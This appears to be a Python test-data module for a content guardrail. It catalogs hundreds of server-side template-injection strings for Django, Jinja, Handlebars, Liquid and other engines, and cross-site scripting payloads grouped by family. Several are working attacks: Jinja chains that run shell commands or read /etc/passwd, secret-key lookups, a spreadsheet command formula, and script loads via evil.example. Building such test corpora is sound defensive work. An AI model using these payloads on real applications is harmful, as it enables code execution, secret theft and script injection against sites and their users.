"""What attackers write into texts: 200 constructs of merge languages and 150 pieces of markup, one a line, by family.

Every piece of markup calls `xss(…)` where it works. `LIVE` says which families a careless page would run as they stand;
the others wait for a second decoding, an attribute or an address to stand in.
"""

from tests.content.guardrails.payloads import PAYLOADS as FIRST


def _lines(text: str) -> list[str]:
    return [line for line in text.strip("\n").split("\n") if line]


MERGE: dict[str, list[str]] = {
    "as tried before": FIRST,
    "django": _lines(r"""
{{ request.user.password }}
{{ request.META.HTTP_COOKIE }}
{{ messages.storages.0.signer.key }}
{{ settings.DATABASES.default.PASSWORD }}
{{ form.as_p|safe }}
{{ first_name|safe }}
{{ first_name|escapejs }}
{{ first_name|add:"x" }}
{{ first_name|dictsort:"password" }}
{{ block.super }}
{{ forloop.parentloop.counter }}
{% csrf_token %}
{% debug %}{{ first_name }}
{% load static %}{% static "x" %}
{% url "common:log_out" %}
{% include "/etc/passwd" %}
{% extends "base.html" %}
{% with a=request.user %}{{ a.password }}{% endwith %}
{% autoescape off %}<b>{{ first_name }}</b>{% endautoescape %}
{% verbatim %}{{ x }}{% endverbatim %}
{% ssi "/etc/passwd" %}
{% now "Y" %}
{% templatetag openvariable %}
{% firstof request.user.password "x" %}
{% regroup users by password as x %}
"""),
    "jinja": _lines(r"""
{{ ''['__class__']['__mro__'] }}
{{ ()|attr('__class__')|attr('__base__') }}
{{ [].__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}
{{ url_for.__globals__.current_app.config }}
{{ get_flashed_messages.__globals__.__builtins__ }}
{{ joiner.__init__.__globals__.os.popen('id').read() }}
{{ namespace.__init__.__globals__.os.environ }}
{{ range.__class__.__init__ }}
{{ x.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}
{{ '%c'|format(65) }}
{{ 7*'7' }}
{{ 'a'~'b' }}
{{ first_name is defined }}
{{ first_name|replace('a','b') }}
{{ first_name|tojson }}
{{ first_name|map(attribute='x')|list }}
{{ caller() }}
{{ self._TemplateReference__context }}
{% set x = 7 %}{{ x }}
{% import 'os' as os %}{{ os }}
{% for c in ''.__class__.__mro__ %}{{ c }}{% endfor %}
{% macro x() %}{% endmacro %}{{ x() }}
{% filter upper %}x{% endfilter %}
{% do [].append(1) %}
{% trans %}x{% endtrans %}
{%- if 1 -%}x{%- endif -%}
{#- x -#}
"""),
    "handlebars and mustache": _lines(r"""
{{constructor.constructor "return process"}}
{{#with "s" as |string|}}{{string}}{{/with}}
{{lookup (lookup this "constructor") "name"}}
{{__proto__.polluted}}
{{this.constructor.prototype}}
{{#if true}}x{{else}}y{{/if}}
{{#unless false}}x{{/unless}}
{{^empty}}x{{/empty}}
{{log "x"}}
{{@root.password}}
{{../password}}
{{{constructor}}}
{{{{raw}}}}{{x}}{{{{/raw}}}}
{{> (lookup . 'partial')}}
{{{{ first_name }}}}
{{first_name}} {{/if}}
"""),
    "liquid": _lines(r"""
{{ first_name | append: last_name }}
{{ first_name | split: "" | first }}
{{ first_name | default: "x" | escape_once }}
{{ first_name | date: "%Y" }}
{{ first_name | times: 99999999 }}
{{ "x" | upcase }}
{{ first_name, last_name }}
{{ first_name || last_name }}
{{ first_name; last_name }}
{{ first_name | default: "a", allow_false: true }}
{{ first_name | default: 'x' | default: env }}
{{ trait.points.first }}
{{ trait["points"] }}
{{ trait.__class__ }}
{{ blank }}
{{ nil }}
{{ 1 }}
{{ content_for_layout }}
{% capture x %}y{% endcapture %}
{% case x %}{% when 1 %}{% endcase %}
{% cycle 'a', 'b' %}
{% increment x %}
{% tablerow x in (1..9999999) %}{% endtablerow %}
{% liquid assign x = 1 %}
{% comment %}{{ x }}{% endcomment %}
{% layout 'x' %}
"""),
    "format strings and walks": _lines(r"""
{first_name.__init__.__globals__}
{0.__class__.__mro__[1]}
{self.__class__}
{settings.SECRET_KEY}
{:>9999999}
{0!r:{1}}
{first_name:x}
%(SECRET_KEY)s
%(first_name.__class__)r
%(x)99999999d
%n%n%n%n
$SECRET_KEY
${first_name}
${settings.SECRET_KEY}
$$first_name ${x}
$(cat /etc/passwd)
"""),
    "other engines": _lines(r"""
#{first_name}
#{settings.secret}
*{T(java.lang.Runtime)}
~{fragment}
${{<%[%'"}}%\
<%- include('secret') %>
<%# comment %>
<%! int x; %>
<#if true>x</#if>
<#list users as u>${u}</#list>
<#include "secret">
<?= 1 ?>
<?xml-stylesheet href="x"?>
@(System.Environment.MachineName)
#foreach($x in $y)x#end
#evaluate("x")
*|MC:SUBJECT|*
*|END:IF|*
[[name]]
[%= x %]
%%first_name%% {{x}}
%FIRST_NAME%
"""),
}  # fmt: skip

XSS: dict[str, list[str]] = {
    "elements": _lines(r"""
<script>xss(1)</script>
<SCRIPT>xss(1)</SCRIPT>
<script >xss(1)</script >
<script/x>xss(1)</script>
<script src="data:text/javascript,xss(1)"></script>
<scr<script>ipt>xss(1)</script>
<script>/*</script><script>*/xss(1)</script>
<script type="module">xss(1)</script>
<script type=text/javascript>xss(1)//
<svg><script>xss(1)</script></svg>
<svg><script>xss&lpar;1)</script></svg>
<math><mtext><script>xss(1)</script></mtext></math>
<iframe srcdoc="<script>parent.xss(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.xss(1)&lt;/script&gt;"></iframe>
<object data="data:text/html,<script>parent.xss(1)</script>"></object>
<embed src="data:text/html,<script>parent.xss(1)</script>">
<base href="//evil.example/"><script src="x.js"></script>
<meta http-equiv="refresh" content="0;url=javascript:xss(1)">
<link rel="stylesheet" href="data:text/css,body{display:none}" onload=xss(1)>
<style onload=xss(1)></style>
"""),
    "handlers": _lines(r"""
<img src=x onerror=xss(1)>
<IMG SRC=x ONERROR=xss(1)>
<img src=x onerror="xss(1)">
<img src=x onerror='xss(1)'>
<img src=x onerror=xss`1`>
<img/src=x/onerror=xss(1)>
<img src=x:x onerror=xss(1) alt='
<img src onerror=xss(1)>
<img ''><img src=x onerror=xss(1)>
<img src=x onerror=&#120;ss(1)>
<img src=x onerror=&#x78;ss(1)>
<img src=x onerror=\u0078ss(1)>
<img src=x onerror=window['xss'](1)>
<img src=x onerror=setTimeout('xss(1)')>
<img src=x onerror=eval('xss(1)')>
<img srcset=",x" onerror=xss(1)>
<image src=x onerror=xss(1)>
<svg onload=xss(1)>
<svg/onload=xss(1)>
<svg onload=xss(1)//
<svg><g onload=xss(1)></g></svg>
<svg><animate onbegin=xss(1) attributeName=x dur=1s>
<svg><set onbegin=xss(1) attributeName=x dur=1s>
<svg><image href=x onerror=xss(1)></svg>
<svg><style onload=xss(1)></style></svg>
<body onload=xss(1)>
<input autofocus onfocus=xss(1)>
<input onblur=xss(1) autofocus><input autofocus>
<textarea autofocus onfocus=xss(1)>
<select autofocus onfocus=xss(1)><option>x</select>
<button autofocus onfocus=xss(1)>x</button>
<a href=x onfocus=xss(1) autofocus tabindex=1>x</a>
<div contenteditable autofocus onfocus=xss(1)>x</div>
<details open ontoggle=xss(1)><summary>x</summary></details>
<video src=x onerror=xss(1)></video>
<video><source onerror=xss(1)></video>
<audio src=x onerror=xss(1)></audio>
<marquee onstart=xss(1)>x</marquee>
<object data=x onerror=xss(1)></object>
<iframe onload=xss(1)></iframe>
<embed src=x onload=xss(1)>
<div style="animation:spin 1s" onanimationstart=xss(1)><style>@keyframes spin{}</style>
<p style="transition:color 1ms" ontransitionend=xss(1)>x</p>
<dialog open onclose=xss(1)><form method=dialog><button autofocus>x</button></form></dialog>
<x onclick=xss(1) autofocus tabindex=1 onfocus=xss(1)>x</x>
<xss id=x tabindex=1 onfocus=xss(1) autofocus></xss>
"""),
    "breaking out": _lines(r"""
"><script>xss(1)</script>
'><script>xss(1)</script>
"><img src=x onerror=xss(1)>
'><img src=x onerror=xss(1)>
"><svg/onload=xss(1)>
'"><svg/onload=xss(1)>
--><svg/onload=xss(1)>
--!><svg/onload=xss(1)>
]]><svg/onload=xss(1)>
*/--><svg/onload=xss(1)>
</title><svg/onload=xss(1)>
</style><svg/onload=xss(1)>
</script><svg/onload=xss(1)>
</textarea><svg/onload=xss(1)>
</select><svg/onload=xss(1)>
</option></select><img src=x onerror=xss(1)>
</noscript><svg/onload=xss(1)>
</template><svg/onload=xss(1)>
</iframe><svg/onload=xss(1)>
</xmp><svg/onload=xss(1)>
</pre></div></td></tr></table><svg/onload=xss(1)>
</svg><img src=x onerror=xss(1)>
</math><img src=x onerror=xss(1)>
<!--><svg/onload=xss(1)>-->
<![CDATA[><svg/onload=xss(1)>]]>
<?x ><svg/onload=xss(1)>
<svg><!--</svg><img src=x onerror=xss(1)>-->
<noscript><p title="</noscript><img src=x onerror=xss(1)>">
<table><td background=x><img src=x onerror=xss(1)>
<mj-raw><script>xss(1)</script></mj-raw>
<mj-image src="x" onerror="xss(1)" /><svg/onload=xss(1)>
"""),
    "attributes": _lines(r"""
" autofocus onfocus=xss(1) x="
' autofocus onfocus=xss(1) x='
 autofocus onfocus=xss(1) x=
" onmouseover="xss(1)
' onmouseover='xss(1)
" onerror="xss(1)" src="x
" style="animation:x" onanimationstart="xss(1)
`onmouseover=xss(1)
x" tabindex=1 id=x onfocus="xss(1)" autofocus="
" hx-on:load="xss(1)
" hx-get="/" hx-trigger="load
" srcdoc="<script>parent.xss(1)</script>
" formaction="javascript:xss(1)
" background="javascript:xss(1)
"""),
    "addresses": _lines(r"""
javascript:xss(1)
JaVaScRiPt:xss(1)
java&#09;script:xss(1)
java&#10;script:xss(1)
&#106;avascript:xss(1)
&#x6A;avascript:xss(1)
javascript&colon;xss(1)
javascript://%0axss(1)
javascript:/*--></title></style>*/xss(1)
javascript:xss(1)//https://shop.example/
data:text/html,<script>parent.xss(1)</script>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKDEpPC9zY3JpcHQ+
data:image/svg+xml,<svg onload=xss(1) xmlns='http://www.w3.org/2000/svg'/>
vbscript:xss(1)
blob:https://evil.example/xss(1)
//evil.example/xss(1)
<a href=javascript:xss(1)>x</a>
<form action=javascript:xss(1)><button>x</button></form>
"""),
    "encodings and signs": _lines(r"""
&lt;script&gt;xss(1)&lt;/script&gt;
&amp;lt;script&amp;gt;xss(1)
&#60;script&#62;xss(1)&#60;/script&#62;
%3Cscript%3Exss(1)%3C/script%3E
\u003cscript\u003exss(1)\u003c/script\u003e
\x3cscript\x3exss(1)\x3c/script\x3e
+ADw-script+AD4-xss(1)+ADw-/script+AD4-
＜script＞xss(1)＜/script＞
<ſcript>xss(1)</ſcript>
<ıframe srcdoc=xss(1)>
‮<script>xss(1)</script>
<scr​ipt>xss(1)</scr​ipt>
<<script>xss(1)//<</script>
<script>xss(1)<!--
'-xss(1)-'
"-xss(1)-"
\'-xss(1)//
\";xss(1)//
${xss(1)}
{{constructor.constructor('xss(1)')()}}
=cmd|'/c xss(1)'!A1
"""),
}  # fmt: skip
LIVE = ("elements", "handlers", "breaking out")
ALL_MERGE = list(dict.fromkeys(one for family in MERGE.values() for one in family))
ALL_XSS = list(dict.fromkeys(one for family in XSS.values() for one in family))


def numbered(payload: str, number: int) -> str:
    """The payload that calls `xss(number)`."""
    return payload.replace("(1)", f"({number})").replace("`1`", f"`{number}`")
